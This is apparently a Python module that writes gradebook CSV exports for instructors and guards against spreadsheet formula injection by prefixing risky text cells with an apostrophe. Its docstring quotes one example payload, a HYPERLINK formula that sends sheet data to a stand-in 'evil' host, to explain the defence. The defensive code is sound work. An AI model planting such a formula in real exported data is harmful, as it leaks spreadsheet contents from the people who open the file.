"""CSV for instructors' spreadsheets, safe to open (docs/reliability.md row 22, OWASP ASVS 1.2.10).

A cell that starts with = + - @ (or tab, CR, NUL, which spreadsheets skip
before reading a formula) is run as a formula by Excel and LibreOffice:
`=HYPERLINK("http://evil/?"&A1, "click")` in a student's name leaks the sheet.
Such text cells get a leading apostrophe, which spreadsheets hide and treat as
"this is text". Numbers pass unchanged (a negative score stays a number), and
the database keeps every value verbatim: only the export changes them.
"""
import csv
import io

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\x00")


def neutralise(value) -> str | int | float:
    if not isinstance(value, str):
        return value
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def to_csv(rows: list[list]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([neutralise(cell) for cell in row])
    return buffer.getvalue()
